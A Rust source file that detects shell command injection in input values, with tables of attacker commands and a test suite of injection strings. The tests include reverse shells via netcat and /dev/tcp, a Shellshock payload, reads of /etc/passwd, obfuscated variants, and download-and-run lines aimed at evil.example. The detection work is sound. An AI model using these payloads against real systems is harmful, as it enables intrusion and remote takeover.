//! Shell command injection: a small tokenizer that finds command boundaries (`;`, `|`, `&&`,
//! `&`, line breaks, backticks, `$(`), reads the word after each one the way a shell would
//! (quotes, backslashes and `$@` removed, `/bin/` stripped) and asks whether it is a command
//! name followed by something shaped like an argument (a flag, a path, a URL, a host, a
//! variable, a redirection) or by nothing at all.
//!
//! The argument-shape requirement is what keeps prose quiet: "dogs; cat lovers" or "Tom & Jerry"
//! name a command but pass no argument a shell user would write.

use super::{Hit, feat, ids};

/// Commands an attacker runs to probe, read, fetch or connect back (sorted for binary search).
const COMMANDS: &[&str] = &[
    "awk",
    "base64",
    "bash",
    "bitsadmin",
    "busybox",
    "cat",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "cp",
    "crontab",
    "csh",
    "curl",
    "dash",
    "dig",
    "dir",
    "echo",
    "env",
    "eval",
    "exec",
    "fetch",
    "find",
    "ftp",
    "gawk",
    "getent",
    "grep",
    "head",
    "host",
    "hostname",
    "id",
    "ifconfig",
    "ipconfig",
    "java",
    "kill",
    "killall",
    "ksh",
    "less",
    "ln",
    "ls",
    "lua",
    "mkdir",
    "mkfifo",
    "more",
    "mshta",
    "mv",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netstat",
    "nmap",
    "node",
    "nohup",
    "nslookup",
    "od",
    "openssl",
    "passwd",
    "perl",
    "php",
    "ping",
    "pkill",
    "powershell",
    "printenv",
    "ps",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "reg",
    "regsvr32",
    "rm",
    "ruby",
    "rundll32",
    "scp",
    "sed",
    "sh",
    "sleep",
    "socat",
    "ssh",
    "su",
    "sudo",
    "systeminfo",
    "tail",
    "tar",
    "tasklist",
    "telnet",
    "tftp",
    "timeout",
    "touch",
    "type",
    "uname",
    "useradd",
    "wget",
    "whoami",
    "wmic",
    "xargs",
    "xterm",
    "zsh",
];

/// Command names that are also English words: after a boundary they count only with an
/// argument-shaped word after them.
const WORDS: &[&str] = &[
    "cat", "dir", "echo", "eval", "exec", "fetch", "find", "head", "host", "kill", "less", "more",
    "net", "sleep", "tail", "timeout", "touch", "type",
];

/// Commands that count at the very start of a value (an argument handed to a shell whole):
/// shells and download, connect-back and recon tools, not interpreters or file tools, whose
/// command lines ("python -m venv", "ls -la") are everyday text in developer forums.
const AT_START: &[&str] = &[
    "bash",
    "bitsadmin",
    "busybox",
    "certutil",
    "ifconfig",
    "ipconfig",
    "mshta",
    "nc",
    "ncat",
    "netcat",
    "netstat",
    "regsvr32",
    "rundll32",
    "sh",
    "socat",
    "systeminfo",
    "telnet",
    "tftp",
    "uname",
    "wget",
    "whoami",
    "wmic",
    "zsh",
];

/// By first letter (`a`..`z`), the lengths of the names in `table` that start with it (bit
/// `len`; names are shorter than 24 bytes, see [`shell_word`]).
const fn lengths_by_first_letter(table: &[&str]) -> [u32; 26] {
    let mut masks = [0u32; 26];
    let mut i = 0;
    while i < table.len() {
        let name = table[i].as_bytes();
        masks[(name[0] - b'a') as usize] |= 1 << name.len();
        i += 1;
    }
    masks
}

static COMMAND_LENS: [u32; 26] = lengths_by_first_letter(COMMANDS);
static AT_START_LENS: [u32; 26] = lengths_by_first_letter(AT_START);

/// How strong the boundary before a word is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Boundary {
    /// The value starts here (an argument that is passed to a shell whole).
    Start,
    /// A single `&` (frequent in prose: "Q&A", "Tom & Jerry").
    Amp,
    /// `;`, `|`, `||`, `&&`, a line break or a backtick.
    Strong,
    /// `$(`: command substitution.
    Substitution,
}

/// Looks for a command injection in a decoded value (`f` = [`super::features`] of `v`).
pub fn detect(v: &[u8], f: u32) -> Option<Hit> {
    let trimmed = v.trim_ascii_start();
    if trimmed.starts_with(b"() {") {
        return Some(Hit::new(ids::SHELLSHOCK, v.len() - trimmed.len()));
    }
    if f & feat::SHELL != 0
        && let Some(at) = memchr::memmem::find(v, b"$IFS").or(memchr::memmem::find(v, b"${IFS"))
    {
        return Some(Hit::new(ids::CMDI, at));
    }
    if f & feat::SPACE != 0 && command_at(v, 0, Boundary::Start) {
        return Some(Hit::new(ids::CMDI, 0));
    }
    if f & feat::SHELL == 0 {
        return None;
    }
    let mut i = 0;
    while i < v.len() {
        let (boundary, len) = match (v[i], v.get(i + 1)) {
            (b'$', Some(b'(')) => (Boundary::Substitution, 2),
            (b'&', Some(b'&')) | (b'|', Some(b'|')) => (Boundary::Strong, 2),
            (b'&', _) => (Boundary::Amp, 1),
            (b';' | b'|' | b'`' | b'\n' | b'\r', _) => (Boundary::Strong, 1),
            _ => {
                i += 1;
                continue;
            }
        };
        if command_at(v, i + len, boundary) {
            return Some(Hit::new(ids::CMDI, i));
        }
        i += len;
    }
    None
}

fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | 0x0B | 0x0C)
}

fn ends_word(b: u8) -> bool {
    is_space(b)
        || matches!(
            b,
            b';' | b'|' | b'&' | b'`' | b')' | b'(' | b'<' | b'>' | b',' | b'}' | b'\n' | b'\r'
        )
}

/// Whether a command (with an argument-shaped word, or alone) starts at `i`.
fn command_at(v: &[u8], mut i: usize, boundary: Boundary) -> bool {
    while i < v.len() && (is_space(v[i]) || v[i] == b'{' || v[i] == b'(') {
        i += 1;
    }
    let start = i;
    while i < v.len() && !ends_word(v[i]) {
        i += 1;
    }
    let raw = &v[start..i];
    if raw.is_empty() || raw.len() > 64 {
        return false;
    }
    let mut name = [0u8; 24];
    let Some(n) = shell_word(raw, &mut name) else {
        return false;
    };
    let name = &name[..n];
    if raw.contains(&b'/') && raw.iter().filter(|b| matches!(b, b'?' | b'*')).count() >= 2 {
        // `/???/c?t`: a globbed binary path.
        return boundary != Boundary::Start;
    }
    // At the start only `AT_START` counts (a subset of `COMMANDS`, checked by a test): the
    // shorter table is searched first on every value with a space.
    let (known, lens) = if boundary == Boundary::Start {
        (AT_START, &AT_START_LENS)
    } else {
        (COMMANDS, &COMMAND_LENS)
    };
    // Most words are told apart from every command by first letter and length alone.
    let plausible = match name {
        [first @ b'a'..=b'z', ..] => lens[usize::from(first - b'a')] & 1 << name.len() != 0,
        _ => false,
    };
    if !plausible {
        return false;
    }
    let Ok(name) = std::str::from_utf8(name) else {
        return false;
    };
    if known.binary_search(&name).is_err() {
        return false;
    }
    let english = WORDS.binary_search(&name).is_ok();
    match argument(v, i) {
        Arg::None => match boundary {
            Boundary::Start => false,
            Boundary::Amp | Boundary::Strong => !english,
            Boundary::Substitution => true,
        },
        Arg::Shaped => true,
        Arg::Number => {
            matches!(name, "sleep" | "timeout" | "ping") || boundary == Boundary::Substitution
        }
        Arg::Plain => {
            boundary == Boundary::Substitution
                || (boundary == Boundary::Strong && v.get(start.wrapping_sub(1)) == Some(&b'`'))
        }
    }
}

/// The command name a shell would run for `raw`: quotes, backslashes and empty expansions
/// (`$@`, `$*`) removed, directory stripped, `.exe` dropped, lowercased. `None` when too long.
fn shell_word(raw: &[u8], out: &mut [u8; 24]) -> Option<usize> {
    let mut n = 0;
    let mut i = 0;
    while i < raw.len() {
        let b = raw[i];
        if b == b'$' && matches!(raw.get(i + 1), Some(b'@' | b'*')) {
            i += 2;
            continue;
        }
        i += 1;
        match b {
            b'\'' | b'"' | b'\\' => {}
            b'/' => n = 0,
            _ => {
                *out.get_mut(n)? = b.to_ascii_lowercase();
                n += 1;
            }
        }
    }
    if out[..n].ends_with(b".exe") {
        n -= 4;
    }
    Some(n)
}

enum Arg {
    /// Nothing, or another boundary.
    None,
    /// A flag, path, URL, host name, variable, quote or redirection.
    Shaped,
    /// A number.
    Number,
    /// A plain word.
    Plain,
}

fn argument(v: &[u8], mut i: usize) -> Arg {
    while i < v.len() && (is_space(v[i]) || v[i] == b',') {
        i += 1;
    }
    let Some(&first) = v.get(i) else {
        return Arg::None;
    };
    if matches!(
        first,
        b';' | b'|' | b'&' | b'`' | b')' | b'}' | b'\n' | b'\r'
    ) {
        return Arg::None;
    }
    if matches!(
        first,
        b'-' | b'/' | b'\\' | b'$' | b'~' | b'.' | b'\'' | b'"' | b'<' | b'>' | b'%'
    ) {
        return Arg::Shaped;
    }
    let end = v[i..]
        .iter()
        .position(|b| ends_word(*b))
        .map_or(v.len(), |p| i + p);
    let word = &v[i..end];
    if word.iter().all(u8::is_ascii_digit) {
        return Arg::Number;
    }
    let drive = word.len() >= 2 && word[0].is_ascii_alphabetic() && word[1] == b':';
    if drive || word.contains(&b'.') || word.contains(&b'/') || word.contains(&b'=') {
        return Arg::Shaped;
    }
    Arg::Plain
}

#[cfg(test)]
mod tests {
    use super::super::features;
    use super::*;

    fn hit(v: &str) -> bool {
        detect(v.as_bytes(), features(v.as_bytes())).is_some()
    }

    #[test]
    fn tables_are_sorted() {
        assert!(COMMANDS.windows(2).all(|w| w[0] < w[1]));
        assert!(WORDS.windows(2).all(|w| w[0] < w[1]));
        assert!(WORDS.iter().all(|w| COMMANDS.contains(w)));
        assert!(AT_START.windows(2).all(|w| w[0] < w[1]));
        assert!(AT_START.iter().all(|w| COMMANDS.contains(w)));
        // The length masks need lower-case names that start with a letter and fit a `u32`.
        for name in COMMANDS {
            assert!(
                name.as_bytes()[0].is_ascii_lowercase() && name.len() < 24,
                "{name}"
            );
            assert_eq!(*name, name.to_ascii_lowercase());
        }
    }

    #[test]
    fn detects_injections() {
        for v in [
            "; cat /etc/passwd",
            "x|id",
            "x || ping -c 10 127.0.0.1",
            "a && whoami",
            "`id`",
            "$(whoami)",
            "127.0.0.1; ls -la",
            "x\nid",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "; /bin/bash -i >& /dev/tcp/1.2.3.4/8080 0>&1",
            "|cat${IFS}/etc/passwd",
            ";{cat,/etc/passwd}",
            "; c\\at /etc/pas's'wd",
            "; /???/c?t /etc/passwd",
            "a;id;",
            "& ping -n 5 127.0.0.1",
            "; sleep 10",
            "wget http://evil.example/x.sh",
            "() { :; }; /bin/bash -c id",
            "|| w'h'o'am'i",
            "; python3 -c 'import os'",
            "&& type c:\\windows\\win.ini",
            "; curl evil.example/x | sh",
        ] {
            assert!(hit(v), "{v:?}");
        }
    }

    #[test]
    fn passes_prose() {
        for v in [
            "Tom & Jerry",
            "Q&A",
            "dogs; cat lovers welcome",
            "drop me a line; we'll call",
            "rock | paper | scissors",
            "I need sleep",
            "id",
            "cat",
            "ls",
            "sort by date",
            "find a store near me",
            "type your name",
            "echo chamber",
            "head office; tail end",
            "function() { return 1; }",
            "price: $5 & up",
            "more info; more details",
            "ls -la shows hidden files",
            "python -m venv env",
            "curl -X POST is the way",
        ] {
            assert!(!hit(v), "{v:?}");
        }
    }

    #[test]
    fn hostile_bytes_never_panic() {
        for v in [
            "$",
            "$(",
            "`",
            ";",
            "&&",
            "; /",
            ";\\",
            "; '",
            "; $@",
            ";\u{ff}\u{fe}",
        ] {
            let _ = hit(v);
        }
    }
}
